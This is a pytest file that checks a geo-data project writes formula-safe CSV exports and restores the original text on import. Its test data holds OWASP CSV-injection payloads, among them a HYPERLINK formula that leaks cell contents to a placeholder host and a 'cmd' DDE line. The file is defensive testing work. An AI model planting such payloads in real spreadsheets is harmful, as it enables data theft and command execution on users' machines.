"""Formula-safe CSV (OWASP "CSV injection") in every CSV the project writes, and the way back.

Every file is written by the test itself; the command line runs as a user runs it.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from geo import schema
from geo.export import FORMULA_STARTS, formula_safe, neutralise_cell, records_to_csv, restore_cell, restore_frame
from geo.importing import import_rows
from geo.importing.pipeline import rejected_csv
from geo.records import load_records
from geo.store import open_store

ROOT = Path(__file__).resolve().parents[1]

#: OWASP's payloads, and what a formula-safe CSV holds for each.
PAYLOADS = {
    '=HYPERLINK("http://x/leak?"&A1,"click")': '\'=HYPERLINK("http://x/leak?"&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1+1)": "'@SUM(1+1)",
    "-2+3": "'-2+3",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


def run(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "geo", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env={**os.environ, **(env or {})},
        timeout=180,
    )


def cells(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    """The CSV's cells exactly as they are in the file (no type guessing, no stripping)."""
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.DictReader(handle))


def native_file(path: Path, rows: list[dict], extra: list[str] = ()) -> Path:
    """A native CSV as a careful tool writes it (every cell quoted as needed, CRLF)."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=[*schema.COLUMNS, *extra], lineterminator="\r\n")
        writer.writeheader()
        for row in rows:
            writer.writerow(row)
    return path


def payload_rows() -> list[dict]:
    """A record per payload (in the summary, a place name and an extra column), a far-away point, a bad row."""
    rows = []
    for i, text in enumerate(PAYLOADS):
        rows.append(
            {
                "record_id": f"p{i}",
                "date": f"2019-06-{10 + i}",
                "city": "Almaty",
                "event_type": "rally",
                "geo_precision": "1",
                "latitude": "43.25",
                "longitude": "76.95",
                "place_name_en": f"Square {i}",
                "summary": text,
                "notes": f"note {text}",
                "source_urls": f"https://example.org/{i}",
                "actor": text,
            }
        )
    rows.append(
        {
            "record_id": "far",
            "date": "2019-06-20",
            "city": "other",
            "event_type": "rally",
            "geo_precision": "1",
            "latitude": "-0.5",
            "longitude": "-77.125",
            "detained_low": "3",
            "count_kind": "incremental",
            "summary": "a point west of Greenwich, south of the equator",
            "source_urls": "https://example.org/far",
            "actor": "-0.5",
        }
    )
    rows.append(
        {
            "record_id": "bad",
            "date": "2019-13-01",
            "city": "Almaty",
            "event_type": "rally",
            "summary": '=HYPERLINK("http://x/leak?"&A1,"click")',
            "source_urls": "https://example.org/bad",
            "actor": "@SUM(1+1)",
        }
    )
    return rows


# --------------------------------------------------------------------------- the rule


@pytest.mark.parametrize(("text", "written"), PAYLOADS.items())
def test_owasp_payloads_are_written_as_text_and_read_back(text, written):
    assert neutralise_cell(text) == written
    assert restore_cell(written) == text


@pytest.mark.parametrize("text", ["-0.5", "-5", "+3", "1e-5", "-1,5", "", "abc", "Алматы", "'quoted'", "a=b"])
def test_numbers_and_plain_text_are_left_as_they_are(text):
    assert neutralise_cell(text) == text
    assert restore_cell(text) == text


def test_a_cell_already_quoted_gets_one_quote_more():
    assert neutralise_cell("'=x") == "''=x"
    assert neutralise_cell("''-5") == "'''-5"
    assert restore_cell("''=x") == "'=x"


@settings(max_examples=400, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "\n", "1", ".", "a", "Ж", " "]), max_size=8)
)
def test_the_rule_is_undone_exactly_and_never_leaves_a_formula(text):
    written = neutralise_cell(text)
    assert restore_cell(written) == text
    if written.startswith(FORMULA_STARTS):  # only a plain number may still begin with a sign
        float(written.replace(",", "."))


def test_numeric_columns_stay_numbers_and_text_columns_are_neutralised():
    frame = pd.DataFrame(
        {
            "latitude": [-0.5, 43.25],
            "detained_low": pd.array([None, 5], dtype="Int64"),
            "summary": ["-2+3", None],
            "=evil": ["x", "y"],
        }
    )
    text = formula_safe(frame).to_csv(index=False, lineterminator="\n")
    assert text.splitlines() == ["latitude,detained_low,summary,'=evil", "-0.5,,'-2+3,x", "43.25,5,,y"]
    back, changed = restore_frame(pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False))
    assert changed == 2 and list(back.columns) == ["latitude", "detained_low", "summary", "=evil"]
    assert back["summary"].tolist() == ["-2+3", ""]


def test_records_to_csv_quotes_line_breaks_inside_cells():
    frame = pd.DataFrame({"record_id": ["a"], "summary": ["\r=1+1 and\r\na new line"], "latitude": [np.nan]})
    text = records_to_csv(frame)
    assert text == 'record_id,summary,latitude\r\na,"\'\r=1+1 and\r\na new line",\r\n'
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ["a", "'\r=1+1 and\r\na new line", ""]


# --------------------------------------------------------------------------- every CSV the project writes


def test_join_out_csv_is_formula_safe(tmp_path, boundary_real_dir):
    src = native_file(tmp_path / "in.csv", payload_rows()[:-1], extra=["actor"])
    out = tmp_path / "joined.csv"
    res = run("join", str(src), "--out", str(out), env={"PROTESTMAP_BOUNDARIES": str(boundary_real_dir)})
    assert res.returncode == 0, res.stderr
    got = {row["record_id"]: row for row in cells(out)}
    read = load_records(src).set_index("record_id")  # as the join read them (the reader may strip a leading tab)
    for i, (text, written) in enumerate(PAYLOADS.items()):
        assert read.loc[f"p{i}", "summary"] in (text, text.strip())
        assert got[f"p{i}"]["summary"] == "'" + read.loc[f"p{i}", "summary"]
        assert got[f"p{i}"]["summary"] in (written, "'=1+1")
        assert got[f"p{i}"]["actor"] == got[f"p{i}"]["summary"]
    assert (got["far"]["latitude"], got["far"]["longitude"], got["far"]["actor"]) == ("-0.5", "-77.125", "-0.5")
    assert got["p0"]["district_id"] and got["p0"]["latitude"] == "43.25"


def test_export_then_import_gives_back_the_records_exactly(tmp_path):
    src = native_file(tmp_path / "team.csv", payload_rows(), extra=["actor"])
    store = tmp_path / "store.sqlite"
    env = {"PROTESTMAP_CACHE": str(tmp_path / "cache")}
    res = run("import", str(src), "--store", str(store), "--dataset", "team", env=env)
    assert res.returncode == 0, res.stderr
    assert res.stdout.splitlines()[0] == f"{src}: 8 rows: 7 imported (1 flagged), 0 merged, 1 rejected"
    original = open_store(store).read(["team"])
    assert [t.strip() for t in original["summary"].tolist()[:6]] == [t.strip() for t in PAYLOADS]

    for ext in ("csv", "geojson"):
        out = tmp_path / f"export.{ext}"
        res = run("datasets", "export", "team", "--out", str(out), "--store", str(store))
        assert res.returncode == 0, res.stderr
        assert f"7 record(s) of dataset 'team' -> {out}" in res.stderr
        elsewhere = tmp_path / f"store-{ext}.sqlite"  # in the first store its rows would merge into team's
        res = run("import", str(out), "--store", str(elsewhere), "--dataset", "team", env=env)
        assert res.returncode == 0, res.stderr
        assert res.stdout.splitlines()[0] == f"{out}: 7 rows: 7 imported (1 flagged), 0 merged, 0 rejected"
        again = open_store(elsewhere).read(["team"])
        columns = [*schema.COLUMNS, "actor", "flags"]
        pd.testing.assert_frame_equal(again[columns], original[columns])

    exported = {row["record_id"]: row for row in cells(tmp_path / "export.csv")}
    assert exported["p0"]["summary"] == '\'=HYPERLINK("http://x/leak?"&A1,"click")'
    assert exported["p1"]["actor"] == "'+cmd|' /C calc'!A0"
    assert exported["p3"]["notes"] == "note -2+3"  # not at the start: not a formula
    assert exported["p4"]["summary"] == "'" + original.loc[4, "summary"]  # '\t=1+1 (or '=1+1 when stripped)
    assert exported["p5"]["summary"] == "'" + original.loc[5, "summary"]
    assert (exported["far"]["latitude"], exported["far"]["longitude"]) == ("-0.5", "-77.125")
    assert "dataset" not in exported["p0"] and "source_file" not in exported["p0"]
    doc = json.loads((tmp_path / "export.geojson").read_text(encoding="utf-8"))
    geo_props = {f["properties"]["record_id"]: f for f in doc["features"]}
    assert geo_props["p0"]["properties"]["summary"] == '=HYPERLINK("http://x/leak?"&A1,"click")'  # not a spreadsheet
    assert geo_props["far"]["geometry"]["coordinates"] == [-77.125, -0.5]


def test_the_rejected_rows_file_is_formula_safe_and_its_fix_imports_the_original_text(tmp_path):
    src = native_file(tmp_path / "team.csv", payload_rows(), extra=["actor"])
    store = tmp_path / "store.sqlite"
    res = run("import", str(src), "--store", str(store), "--dataset", "team")
    assert res.returncode == 0, res.stderr
    side = tmp_path / "team.rejected.csv"
    assert f"ready to fix and import again: {side}" in res.stdout
    assert side.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    (bad,) = cells(side, encoding="utf-8-sig")
    assert bad["summary"] == '\'=HYPERLINK("http://x/leak?"&A1,"click")'
    assert bad["actor"] == "'@SUM(1+1)"
    assert (bad["record_id"], bad["import_row"], bad["import_column"], bad["import_value"]) == (
        "bad",
        "9",
        "date",
        "2019-13-01",
    )

    # fixed in a spreadsheet (the date only) and imported again
    rows = cells(side, encoding="utf-8-sig")
    rows[0]["date"] = "2019-06-30"
    with side.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)
    res = run("import", str(side), "--store", str(store), "--dataset", "fixed")
    assert res.returncode == 0, res.stderr
    assert res.stdout.splitlines()[0] == f"{side}: 1 rows: 1 imported (0 flagged), 0 merged, 0 rejected"
    fixed = open_store(store).read(["fixed"]).iloc[0]
    assert fixed["summary"] == '=HYPERLINK("http://x/leak?"&A1,"click")'
    assert fixed["actor"] == "@SUM(1+1)"


def test_the_import_pages_download_is_the_same_formula_safe_file(tmp_path):
    src = native_file(tmp_path / "team.csv", payload_rows(), extra=["actor"])
    result = import_rows(src, boundaries=None)
    from geo.importing import write_rejected

    written = write_rejected(result)
    assert written is not None
    text = rejected_csv(result)
    assert written.read_bytes() == ("\ufeff" + text).encode("utf-8")
    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text
    page = (ROOT / "pages/views/import_data.py").read_text(encoding="utf-8")
    assert 'rejected_csv(result).encode("utf-8-sig")' in page and "result.rejected.to_csv" not in page


def test_the_sources_pages_download_is_formula_safe():
    page = (ROOT / "pages/views/sources.py").read_text(encoding="utf-8")
    assert '("download_csv", records_to_csv, "csv", "text/csv")' in page  # the page's CSV is this writer's
    from geo.records import load_embedded_records

    records = load_embedded_records()
    records.loc[0, "summary"] = "@SUM(1+1)"
    rows = list(csv.DictReader(io.StringIO(records_to_csv(records), newline="")))
    assert rows[0]["summary"] == "'@SUM(1+1)"
    assert [r["summary"] for r in rows[1:]] == records["summary"].tolist()[1:]  # nothing else changed
